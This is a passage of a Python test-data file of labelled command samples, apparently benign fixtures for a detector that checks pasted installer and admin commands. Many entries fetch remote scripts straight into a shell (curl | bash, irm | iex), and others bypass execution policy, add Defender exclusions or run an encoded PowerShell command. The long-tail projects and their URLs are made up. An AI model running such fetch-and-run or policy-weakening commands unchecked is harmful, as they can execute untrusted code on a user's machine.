    'sudo install -m 0755 -d /etc/apt/keyrings\nsudo curl -fsSL https://download.docker.com/linux/debian/gpg -o /etc/apt/keyrings/docker.asc\nsudo chmod a+r /etc/apt/keyrings/docker.asc\necho \\\n  "deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/debian \\\n  $(. /etc/os-release && echo "$VERSION_CODENAME") stable" | \\\n  sudo tee /etc/apt/sources.list.d/docker.list > /dev/null\nsudo apt-get update',
)
own(
    "https://github.com/cli/cli/blob/trunk/docs/install_linux.md",
    '(type -p wget >/dev/null || (sudo apt update && sudo apt install wget -y)) \\\n\t&& sudo mkdir -p -m 755 /etc/apt/keyrings \\\n\t&& out=$(mktemp) && wget -nv -O$out https://cli.github.com/packages/githubcli-archive-keyring.gpg \\\n\t&& cat $out | sudo tee /etc/apt/keyrings/githubcli-archive-keyring.gpg > /dev/null \\\n\t&& sudo chmod go+r /etc/apt/keyrings/githubcli-archive-keyring.gpg \\\n\t&& echo "deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/githubcli-archive-keyring.gpg] https://cli.github.com/packages stable main" | sudo tee /etc/apt/sources.list.d/github-cli.list > /dev/null \\\n\t&& sudo apt update \\\n\t&& sudo apt install gh -y',
)
own(
    "https://code.visualstudio.com/docs/setup/linux",
    "wget -qO- https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > packages.microsoft.gpg\nsudo install -D -o root -g root -m 644 packages.microsoft.gpg /etc/apt/keyrings/packages.microsoft.gpg",
)
own(
    "https://caddyserver.com/docs/install#debian-ubuntu-raspbian",
    "curl -1sLf 'https://dl.cloudsmith.io/public/caddy/stable/gpg.key' | sudo gpg --dearmor -o /usr/share/keyrings/caddy-stable-archive-keyring.gpg\ncurl -1sLf 'https://dl.cloudsmith.io/public/caddy/stable/debian.deb.txt' | sudo tee /etc/apt/sources.list.d/caddy-stable.list",
)
own(
    "https://calibre-ebook.com/download_linux",
    "sudo -v && wget -nv -O- https://download.calibre-ebook.com/linux-installer.sh | sudo sh /dev/stdin",
)
own(
    "https://github.com/cargo-bins/cargo-binstall",
    "curl -L --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/cargo-bins/cargo-binstall/main/install-from-binstall-release.sh | bash",
)
own("https://docs.pi-hole.net/main/basic-install/", "curl -sSL https://install.pi-hole.net | bash")
own(
    "https://learn.netdata.cloud/docs/netdata-agent/installation/linux/",
    "wget -O /tmp/netdata-kickstart.sh https://get.netdata.cloud/kickstart.sh && sh /tmp/netdata-kickstart.sh --stable-channel",
)
own("https://casaos.zimaspace.com/", "curl -fsSL https://get.casaos.io | sudo bash")
own(
    "https://coolify.io/docs/get-started/installation",
    "curl -fsSL https://cdn.coollabs.io/coolify/install.sh | sudo bash",
)
own("https://fly.io/docs/flyctl/install/", "curl -L https://fly.io/install.sh | sh")
own(
    "https://fly.io/docs/flyctl/install/",
    'pwsh -Command "iwr https://fly.io/install.ps1 -useb | iex"',
)
own("https://docs.railway.com/guides/cli", "bash <(curl -fsSL cli.new)")
own("https://encore.dev/docs/ts/install", "curl -L https://encore.dev/install.sh | bash")
own("https://julialang.org/downloads/", "curl -fsSL https://install.julialang.org | sh")
own(
    "https://www.haskell.org/ghcup/",
    "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh",
)
own(
    "https://www.haskell.org/ghcup/",
    "Set-ExecutionPolicy Bypass -Scope Process -Force;[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; try { & ([ScriptBlock]::Create((Invoke-WebRequest https://www.haskell.org/ghcup/sh/bootstrap-haskell.ps1 -UseBasicParsing))) -Interactive -DisableCurl } catch { Write-Error $_ }",
)
own(
    "https://opam.ocaml.org/doc/Install.html",
    'bash -c "sh <(curl -fsSL https://opam.ocaml.org/install.sh)"',
)
own(
    "https://ngrok.com/downloads/linux",
    'curl -sSL https://ngrok-agent.s3.amazonaws.com/ngrok.asc | sudo tee /etc/apt/trusted.gpg.d/ngrok.asc >/dev/null && echo "deb https://ngrok-agent.s3.amazonaws.com bookworm main" | sudo tee /etc/apt/sources.list.d/ngrok.list && sudo apt update && sudo apt install ngrok',
)
own(
    "https://docs.claude.com/en/docs/claude-code/setup",
    "curl -fsSL https://claude.ai/install.sh | bash",
)
own("https://docs.claude.com/en/docs/claude-code/setup", "irm https://claude.ai/install.ps1 | iex")
own("https://opencode.ai/", "curl -fsSL https://opencode.ai/install | bash")
own("https://github.com/google-gemini/gemini-cli", "npm install -g @google/gemini-cli")
own("https://github.com/openai/codex", "npm i -g @openai/codex\ncodex")
own("https://zed.dev/docs/linux", "curl -f https://zed.dev/install.sh | sh")
own(
    "https://docs.wasmtime.dev/cli-install.html", "curl https://wasmtime.dev/install.sh -sSf | bash"
)
own("https://docs.wasmer.io/install", "curl https://get.wasmer.io -sSfL | sh")
own(
    "https://book.getfoundry.sh/getting-started/installation",
    "curl -L https://foundry.paradigm.xyz | bash\nfoundryup",
)
own(
    "https://docs.anza.xyz/cli/install",
    'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
)
own("https://v2.tauri.app/start/create-project/", "sh <(curl https://create.tauri.app/sh)")
own("https://v2.tauri.app/start/create-project/", "irm https://create.tauri.app/ps | iex")
own("https://nodejs.org/en/download", "winget install OpenJS.NodeJS.LTS")
own("https://git-scm.com/downloads/win", "winget install --id Git.Git -e --source winget")
own("https://community.chocolatey.org/packages/nodejs-lts", "choco install nodejs-lts -y")
own("https://scoop.sh/#/apps?q=vscode", "scoop bucket add extras\nscoop install extras/vscode")
own("https://docs.astral.sh/ruff/installation/", "uv tool install ruff@latest")
own(
    "https://pipx.pypa.io/stable/installation/",
    "python3 -m pip install --user pipx\npython3 -m pipx ensurepath",
)
own("https://github.com/BurntSushi/ripgrep#installation", "cargo install ripgrep")
own("https://zellij.dev/documentation/installation", "cargo install --locked zellij")
own("https://pkg.go.dev/golang.org/x/tools/gopls", "go install golang.org/x/tools/gopls@latest")
own("https://vite.dev/guide/", "npm create vite@latest my-vue-app -- --template vue")
own(
    "https://docs.portainer.io/start/install-ce/server/docker/linux",
    "docker volume create portainer_data\ndocker run -d -p 8000:8000 -p 9443:9443 --name portainer --restart=always -v /var/run/docker.sock:/var/run/docker.sock -v portainer_data:/data portainer/portainer-ce:lts",
)
own(
    "https://github.com/jesseduffield/lazygit#homebrew",
    "brew install jesseduffield/lazygit/lazygit",
)
own("https://formulae.brew.sh/cask/visual-studio-code", "brew install --cask visual-studio-code")
own(
    "https://github.com/junegunn/fzf#using-git",
    "git clone --depth 1 https://github.com/junegunn/fzf.git ~/.fzf\n~/.fzf/install",
)
own(
    "https://github.com/tmux-plugins/tpm",
    "git clone https://github.com/tmux-plugins/tpm ~/.tmux/plugins/tpm",
)
own(
    "https://github.com/sharkdp/bat/releases/tag/v0.25.0",
    "wget https://github.com/sharkdp/bat/releases/download/v0.25.0/bat_0.25.0_amd64.deb\nsudo dpkg -i bat_0.25.0_amd64.deb",
)
own(
    "https://github.com/neovim/neovim/blob/master/INSTALL.md",
    "curl -LO https://github.com/neovim/neovim/releases/latest/download/nvim-linux-x86_64.tar.gz\nsudo rm -rf /opt/nvim-linux-x86_64\nsudo tar -C /opt -xzf nvim-linux-x86_64.tar.gz",
)
own(
    "https://github.com/neovim/neovim/blob/master/INSTALL.md",
    "curl -LO https://github.com/neovim/neovim/releases/latest/download/nvim-linux-x86_64.appimage\nchmod u+x nvim-linux-x86_64.appimage\n./nvim-linux-x86_64.appimage",
)
own(
    "https://go.dev/doc/install",
    "rm -rf /usr/local/go && tar -C /usr/local -xzf go1.25.4.linux-amd64.tar.gz",
)
own(
    "https://developer.hashicorp.com/terraform/install",
    "wget -O - https://apt.releases.hashicorp.com/gpg | sudo gpg --dearmor -o /usr/share/keyrings/hashicorp-archive-keyring.gpg\necho \"deb [arch=$(dpkg --print-architecture) signed-by=/usr/share/keyrings/hashicorp-archive-keyring.gpg] https://apt.releases.hashicorp.com $(grep -oP '(?<=UBUNTU_CODENAME=).*' /etc/os-release || lsb_release -cs) main\" | sudo tee /etc/apt/sources.list.d/hashicorp.list\nsudo apt update && sudo apt install terraform",
)
own(
    "https://learn.microsoft.com/en-us/windows/wsl/install",
    "wsl --install",
)
own(
    "https://learn.microsoft.com/en-us/windows/package-manager/winget/",
    "$progressPreference = 'silentlyContinue'\nInvoke-WebRequest -Uri https://aka.ms/getwinget -OutFile Microsoft.DesktopAppInstaller_8wekyb3d8bbwe.msixbundle\nAdd-AppxPackage Microsoft.DesktopAppInstaller_8wekyb3d8bbwe.msixbundle",
)
own(
    "https://www.python.org/downloads/windows/",
    "python-3.13.1-amd64.exe /quiet InstallAllUsers=1 PrependPath=1",
)
own("https://docs.syncthing.net/users/contrib.html", "sudo apt install syncthing")
own(
    "https://apt.syncthing.net/",
    'sudo mkdir -p /etc/apt/keyrings\nsudo curl -L -o /etc/apt/keyrings/syncthing-archive-keyring.gpg https://syncthing.net/release-key.gpg\necho "deb [signed-by=/etc/apt/keyrings/syncthing-archive-keyring.gpg] https://apt.syncthing.net/ syncthing stable-v2" | sudo tee /etc/apt/sources.list.d/syncthing.list',
)
own(
    "https://rclone.org/install/",
    "sudo -v ; curl https://rclone.org/install.sh | sudo bash",
)
own(
    "https://restic.readthedocs.io/en/stable/020_installation.html",
    "wget https://github.com/restic/restic/releases/download/v0.18.1/restic_0.18.1_linux_amd64.bz2\nbunzip2 restic_0.18.1_linux_amd64.bz2 && chmod +x restic_0.18.1_linux_amd64 && sudo mv restic_0.18.1_linux_amd64 /usr/local/bin/restic",
)
own("https://docs.brew.sh/Installation", "brew install --cask --no-quarantine alacritty")
own(
    "https://github.com/ollama/ollama/blob/main/docs/linux.md",
    "curl -LO https://ollama.com/download/ollama-linux-amd64.tgz\nsudo tar -C /usr -xzf ollama-linux-amd64.tgz",
)
own(
    "https://docs.n8n.io/hosting/installation/docker/",
    "docker volume create n8n_data\ndocker run -it --rm --name n8n -p 5678:5678 -v n8n_data:/home/node/.n8n docker.n8n.io/n8nio/n8n",
)
own(
    "https://docs.openwebui.com/getting-started/quick-start/",
    "docker run -d -p 3000:8080 --add-host=host.docker.internal:host-gateway -v open-webui:/app/backend/data --name open-webui --restart always ghcr.io/open-webui/open-webui:main",
)
own(
    "https://github.com/FiloSottile/mkcert#linux",
    'curl -JLO "https://dl.filippo.io/mkcert/latest?for=linux/amd64"\nchmod +x mkcert-v*-linux-amd64\nsudo cp mkcert-v*-linux-amd64 /usr/local/bin/mkcert',
)
own(
    "https://github.com/helix-editor/helix/releases/tag/25.07.1",
    "curl -LO https://github.com/helix-editor/helix/releases/download/25.07.1/helix-25.07.1-x86_64.AppImage && chmod +x helix-25.07.1-x86_64.AppImage",
)
own(
    "https://www.rust-lang.org/tools/install",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
)
own(
    "https://docs.flutter.dev/get-started/install/macos",
    'git clone https://github.com/flutter/flutter.git -b stable ~/development/flutter\nexport PATH="$HOME/development/flutter/bin:$PATH"',
)
own(
    "https://code.visualstudio.com/docs/setup/windows",
    "winget install -e --id Microsoft.VisualStudioCode",
)
own(
    "https://www.jetbrains.com/help/idea/installation-guide.html#toolbox",
    "tar -xzf jetbrains-toolbox-2.6.3.43718.tar.gz && cd jetbrains-toolbox-2.6.3.43718 && ./jetbrains-toolbox",
)
own(
    "https://tailscale.com/kb/1347/installation",
    "msiexec /i tailscale-setup-1.90.6-amd64.msi TS_UNATTENDEDMODE=always /quiet",
)
own(
    "https://docs.gitlab.com/runner/install/linux-repository/",
    'curl -L "https://packages.gitlab.com/install/repositories/runner/gitlab-runner/script.deb.sh" | sudo bash',
)
own(
    "https://grafana.com/docs/alloy/latest/set-up/install/linux/",
    'sudo mkdir -p /etc/apt/keyrings/\nwget -q -O - https://apt.grafana.com/gpg.key | gpg --dearmor | sudo tee /etc/apt/keyrings/grafana.gpg > /dev/null\necho "deb [signed-by=/etc/apt/keyrings/grafana.gpg] https://apt.grafana.com stable main" | sudo tee /etc/apt/sources.list.d/grafana.list',
)
own(
    "https://docs.crowdsec.net/u/getting_started/installation/linux",
    "curl -s https://install.crowdsec.net | sudo sh",
)
own(
    "https://get.acme.sh/",
    "curl https://get.acme.sh | sh -s email=my@example.com",
)
own(
    "https://github.com/acmesh-official/acme.sh/wiki/How-to-install",
    "wget -O -  https://get.acme.sh | sh -s email=my@example.com",
)
own(
    "https://docs.wazuh.com/current/quickstart.html",
    "curl -sO https://packages.wazuh.com/4.14/wazuh-install.sh && sudo bash ./wazuh-install.sh -a",
)
own(
    "https://docs.nextcloud.com/server/latest/admin_manual/installation/",
    "sudo docker run --init --sig-proxy=false --name nextcloud-aio-mastercontainer --restart always --publish 80:80 --publish 8080:8080 --publish 8443:8443 --volume nextcloud_aio_mastercontainer:/mnt/docker-aio-config --volume /var/run/docker.sock:/var/run/docker.sock:ro ghcr.io/nextcloud-releases/all-in-one:latest",
)

# --- Long-tail projects with made-up owners, each from its own page -----------------------------

LONG_TAIL = [
    ("quillstack", "ledgerline", "ledgerline"),
    ("mbraun-dev", "tidewatch", "tidewatch"),
    ("kestrel-labs", "portkey", "portkey"),
    ("hanna-ostrowska", "dotsync", "dotsync"),
    ("ferrobyte", "cinder", "cinder"),
    ("oakmoss-io", "gleam-run", "gleamrun"),
    ("t-nakamura", "kumo-cli", "kumo"),
    ("riverbend-oss", "sluice", "sluice"),
    ("pjvandermeer", "tulpctl", "tulpctl"),
    ("lumenworks", "lumen-agent", "lumen-agent"),
    ("ada-kovacs", "fenrir", "fenrir"),
    ("northgate-dev", "pagoda", "pagoda"),
    ("sb-rahman", "zapline", "zapline"),
    ("copperkettle", "brewlog", "brewlog"),
    ("emilia-ruiz", "hilo", "hilo"),
    ("vantablue", "strata-cli", "strata"),
    ("jonas-lindqvist", "fjall", "fjall"),
    ("marrowlabs", "bonesaw", "bonesaw"),
    ("quietfox", "hush", "hush"),
    ("d-okafor", "kora-sync", "kora"),
    ("grayling-tools", "netmend", "netmend"),
    ("sundial-oss", "gnomon", "gnomon"),
    ("pvelasco", "trazo", "trazo"),
    ("hexaloom", "weft", "weft"),
    ("yuki-sato", "hoshi", "hoshi"),
]


def long_tail() -> None:
    """Each project documents one installer in its own README, release page, gist or site, in the
    shapes READMEs really use; the page is the project's own (same owner, same repository or the
    project's own registrable domain)."""
    shapes = [
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"curl -fsSL https://raw.githubusercontent.com/{o}/{r}/main/install.sh | sh",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#installation",
            f"curl -sSfL https://raw.githubusercontent.com/{o}/{r}/main/scripts/install.sh | sh -s -- -b /usr/local/bin v1.4.2",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}/releases/tag/v0.9.1",
            f"curl -LO https://github.com/{o}/{r}/releases/download/v0.9.1/{b}_0.9.1_linux_amd64.tar.gz\ncurl -LO https://github.com/{o}/{r}/releases/download/v0.9.1/checksums.txt\nsha256sum --ignore-missing -c checksums.txt\ntar xzf {b}_0.9.1_linux_amd64.tar.gz && sudo mv {b} /usr/local/bin/",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"irm https://raw.githubusercontent.com/{o}/{r}/main/install.ps1 | iex",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}/blob/main/README.md",
            f'powershell -ExecutionPolicy Bypass -c "irm https://github.com/{o}/{r}/releases/latest/download/{b}-installer.ps1 | iex"',
            TERM,
        ),
        lambda o, r, b: (
            f"https://{o}.github.io/{r}/",
            f"curl -fsSL https://{o}.github.io/{r}/install.sh | bash",
            TERM,
        ),
        lambda o, r, b: (
            f"https://gitlab.com/{o}/{r}",
            f"curl -sSL https://gitlab.com/{o}/{r}/-/raw/main/install.sh | bash",
            TERM,
        ),
        lambda o, r, b: (
            f"https://codeberg.org/{o}/{r}",
            f"curl -sSL https://codeberg.org/{o}/{r}/raw/branch/main/install.sh | sh",
            TERM,
        ),
        lambda o, r, b: (
            f"https://{b}.dev/docs/install",
            f"curl -fsSL https://get.{b}.dev | sh",
            TERM,
        ),
        lambda o, r, b: (
            f"https://{b}.sh/",
            f"curl -fsSL https://{b}.sh/install | bash -s -- --no-modify-path",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"bash <(curl -fsSL https://raw.githubusercontent.com/{o}/{r}/HEAD/install.sh)",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#install",
            f"wget -qO- https://github.com/{o}/{r}/releases/latest/download/install.sh | sudo bash",
            TERM,
        ),
        lambda o, r, b: (
            f"https://gist.github.com/{o}/9f3b2a7c1d4e5f60718293a4b5c6d7e8",
            f"curl -fsSL https://gist.githubusercontent.com/{o}/9f3b2a7c1d4e5f60718293a4b5c6d7e8/raw/setup-{b}.sh | bash",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"iwr -useb https://raw.githubusercontent.com/{o}/{r}/main/install.ps1 | iex",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}/releases",
            f'Invoke-WebRequest -Uri "https://github.com/{o}/{r}/releases/download/v2.3.0/{b}-x86_64-pc-windows-msvc.zip" -OutFile "$env:TEMP\\{b}.zip"\nExpand-Archive "$env:TEMP\\{b}.zip" -DestinationPath "$env:LOCALAPPDATA\\Programs\\{b}" -Force',
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"brew install {o}/tap/{b}",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"go install github.com/{o}/{r}/cmd/{b}@latest",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"pipx install git+https://github.com/{o}/{r}.git",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f'docker run --rm -it -v "$PWD":/work ghcr.io/{o}/{r}:latest --help',
            TERM,
        ),
        lambda o, r, b: (
            f"https://{b}.io/download",
            f'curl -fsSL https://{b}.io/gpg.key | sudo gpg --dearmor -o /usr/share/keyrings/{b}.gpg\necho "deb [signed-by=/usr/share/keyrings/{b}.gpg] https://apt.{b}.io stable main" | sudo tee /etc/apt/sources.list.d/{b}.list\nsudo apt update && sudo apt install {b}',
            TERM,
        ),
        lambda o, r, b: (
            f"https://docs.{b}.org/getting-started",
            f'sh -c "$(curl -fsSL https://{b}.org/install.sh)" -- --prefix ~/.local',
            TERM,
        ),
        lambda o, r, b: (
            f"https://git.{b}.net/{o}/{r}",
            f"curl -fsSL https://git.{b}.net/{o}/{r}/raw/branch/main/install.sh | sh",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"cargo binstall {b}",
            TERM,
        ),
        lambda o, r, b: (
            f"https://www.npmjs.com/package/@{o}/{b}",
            f"npx @{o}/{b}@latest init",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}/releases/tag/v1.2.0",
            f"curl -fsSLO https://github.com/{o}/{r}/releases/download/v1.2.0/{b}-1.2.0-x86_64.AppImage && chmod +x {b}-1.2.0-x86_64.AppImage && ./{b}-1.2.0-x86_64.AppImage",
            TERM,
        ),
        lambda o, r, b: (
            f"https://{o}.github.io/{r}/install",
            f"irm https://{o}.github.io/{r}/install.ps1 | iex",
            TERM,
        ),
        lambda o, r, b: (
            f"https://gitlab.com/{o}/{r}/-/releases",
            f"curl -fsSLo {b}.deb https://gitlab.com/{o}/{r}/-/releases/v3.1.0/downloads/{b}_3.1.0_amd64.deb && sudo apt install ./{b}.deb",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"scoop bucket add {o} https://github.com/{o}/scoop-bucket\nscoop install {o}/{b}",
            TERM,
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}",
            f"winget install {o}.{r}",
            TERM,
        ),
        lambda o, r, b: (
            f"https://{b}.dev/",
            f"curl --proto '=https' --tlsv1.2 -LsSf https://{b}.dev/install.sh | sh",
            TERM,
        ),
    ]
    for round_ in range(2):
        for i, (owner, repo, binary) in enumerate(LONG_TAIL):
            shape = shapes[(i * 7 + round_ * 11) % len(shapes)]
            source, text, target = shape(owner, repo, binary)
            own(source, text, target)


long_tail()

# --- Installers quoted on third-party pages (tutorials, Q&A), pasted into a terminal -----------

THIRD = "installer-third-party"
ok(
    THIRD,
    TERM,
    "https://www.digitalocean.com/community/tutorials/how-to-install-and-use-docker-on-ubuntu-22-04",
    "curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
)
ok(
    THIRD,
    TERM,
    "https://stackoverflow.com/questions/16904658/node-version-manager-install-nvm-command-not-found",
    "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash\nsource ~/.bashrc",
)
ok(
    THIRD,
    TERM,
    "https://dev.to/someone/setting-up-rust-on-wsl-4k2j",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
)
ok(
    THIRD,
    TERM,
    "https://www.freecodecamp.org/news/how-to-install-homebrew-on-mac/",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
)
ok(
    THIRD,
    TERM,
    "https://medium.com/@devnotes/python-tooling-2026-uv-everything-3b1f",
    "curl -LsSf https://astral.sh/uv/install.sh | sh\nuv python install 3.13",
)
ok(
    THIRD,
    TERM,
    "https://superuser.com/questions/1769034/install-scoop-on-windows-11",
    "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser\nirm get.scoop.sh | iex",
)
ok(
    THIRD,
    TERM,
    "https://www.reddit.com/r/selfhosted/comments/1g2x7pk/tailscale_on_proxmox/",
    "curl -fsSL https://tailscale.com/install.sh | sh && tailscale up",
)
ok(
    THIRD,
    TERM,
    "https://askubuntu.com/questions/1468312/how-to-install-ollama",
    "curl -fsSL https://ollama.com/install.sh | sh",
)
ok(
    THIRD,
    TERM,
    "https://www.howtogeek.com/how-to-install-oh-my-zsh/",
    'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
)
ok(
    THIRD,
    TERM,
    "https://linuxize.com/post/how-to-install-node-js-on-ubuntu-22-04/",
    "curl -fsSL https://deb.nodesource.com/setup_lts.x | sudo -E bash - && sudo apt-get install -y nodejs",
)
ok(
    THIRD,
    TERM,
    "https://www.baeldung.com/linux/sdkman-intro",
    'curl -s "https://get.sdkman.io" | bash\nsource "$HOME/.sdkman/bin/sdkman-init.sh"',
)
ok(
    THIRD,
    TERM,
    "https://learn.microsoft.com/en-us/answers/questions/2101337/how-to-install-chocolatey",
    "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
)
ok(
    THIRD,
    TERM,
    "https://github.com/orgs/community/discussions/130041",
    "curl -fsSL https://bun.sh/install | bash",
)
ok(
    THIRD,
    TERM,
    "https://www.tecmint.com/install-pi-hole-on-ubuntu/",
    "curl -sSL https://install.pi-hole.net | bash",
)
ok(
    THIRD,
    TERM,
    "https://unix.stackexchange.com/questions/738501/install-k3s-without-traefik",
    "curl -sfL https://get.k3s.io | sh -s - --disable traefik",
)

# --- Admin PowerShell and cmd from vendor documentation -----------------------------------------

ADMIN = "admin-command"
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_pwsh",
    "$command = 'dir \"c:\\program files\" '\n$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n$encodedCommand = [Convert]::ToBase64String($bytes)\npwsh -encodedcommand $encodedCommand",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/windows/wsl/install-manual",
    "dism.exe /online /enable-feature /featurename:Microsoft-Windows-Subsystem-Linux /all /norestart\ndism.exe /online /enable-feature /featurename:VirtualMachinePlatform /all /norestart",
)
ok(
    ADMIN,
    TERM,
    "https://support.microsoft.com/en-us/windows/using-system-file-checker-in-windows-365e0031-36b1-6031-f804-8fd86e0ef4ca",
    "DISM.exe /Online /Cleanup-image /Restorehealth\nsfc /scannow",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/powershell/module/activedirectory/get-aduser",
    "Get-ADUser -Filter 'Name -like \"*SvcAccount\"' | Format-Table Name,SamAccountName -A",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/windows/client-management/mdm/policy-csp-update",
    'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU" /v NoAutoRebootWithLoggedOnUsers /t REG_DWORD /d 1 /f',
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/windows/dev-drive/",
    'fsutil devdrv query D:\nfsutil devdrv setfiltersallowed "PrjFlt, MsSecFlt, WdFilter, bindFlt, wcifs, FileInfo"',
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/defender-endpoint/configure-extension-file-exclusions-microsoft-defender-antivirus",
    'Add-MpPreference -ExclusionExtension ".obj", ".pdb"',
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.security/set-executionpolicy",
    "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_firstuse",
    "Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0\nStart-Service sshd\nSet-Service -Name sshd -StartupType 'Automatic'",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/troubleshoot/windows-client/networking/reset-tcp-ip",
    "netsh int ip reset c:\\resetlog.txt\nnetsh winsock reset\nipconfig /flushdns",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/intune/intune-service/apps/intune-management-extension",
    'Get-Content "$env:ProgramData\\Microsoft\\IntuneManagementExtension\\Logs\\IntuneManagementExtension.log" -Tail 50 -Wait',
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/exchange/clients-and-mobile-in-exchange-online/exchange-online-powershell",
    "Install-Module -Name ExchangeOnlineManagement -Scope CurrentUser\nConnect-ExchangeOnline -UserPrincipalName admin@contoso.onmicrosoft.com",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/graph/powershell/installation",
    "Install-Module Microsoft.Graph -Scope CurrentUser -Repository PSGallery -Force",
)
ok(
    ADMIN,
    TERM,
    "https://support.zoom.com/hc/en/article?id=zm_kb&sysparm_article=KB0064484",
    'msiexec /i ZoomInstallerFull.msi /quiet /qn /norestart ZoomAutoUpdate="true"',
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/windows/security/operating-system-security/data-protection/bitlocker/",
    "manage-bde -status C:\nGet-BitLockerVolume | Select MountPoint,VolumeStatus,ProtectionStatus",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/troubleshoot/windows-server/group-policy/force-group-policy-update",
    "gpupdate /force\ngpresult /r /scope computer",
)
ok(
    ADMIN,
    TERM,
    "https://docs.docker.com/desktop/setup/install/windows-install/",
    "Start-Process 'Docker Desktop Installer.exe' -Wait -ArgumentList 'install', '--accept-license', '--quiet'",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/windows/win32/wmisdk/wmic",
    "wmic bios get serialnumber\nwmic os get caption,version,buildnumber",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/sysinternals/downloads/psexec",
    "psexec \\\\marketing-pc07 -s -i cmd",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-restmethod",
    "Invoke-RestMethod -Uri https://blogs.msdn.microsoft.com/powershell/feed/ | Format-Table -Property Title, pubDate",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/azure/virtual-machines/windows/run-command",
    "Invoke-AzVMRunCommand -ResourceGroupName 'rg-web' -Name 'vm-web-01' -CommandId 'RunPowerShellScript' -ScriptPath '.\\collect-logs.ps1'",
)
ok(
    ADMIN,
    TERM,
    "https://wiki.internal.example.com/it/printers",
    "Add-Printer -ConnectionName \\\\print01\\Floor3-Color",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/windows/deployment/update/windows-update-logs",
    "Get-WindowsUpdateLog -LogPath C:\\Temp\\WindowsUpdate.log",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
    "certutil -hashfile C:\\Downloads\\installer.msi SHA256",
)
ok(
    ADMIN,
    TERM,
    "https://learn.microsoft.com/en-us/windows/client-management/manage-settings-app-with-group-policy",
    'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced" /v HideFileExt /t REG_DWORD /d 0 /f\ntaskkill /f /im explorer.exe & start explorer.exe',
)

# --- Dev and ops one-liners --------------------------------------------------------------------

DEVOPS = "devops-oneliner"
for source, text in [
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get pods -A -o wide | grep -v Running",
    ),
    (
        "https://kubernetes.io/docs/tasks/debug/debug-application/get-shell-running-container/",
        "kubectl exec --stdin --tty shell-demo -- /bin/bash",
    ),
    (
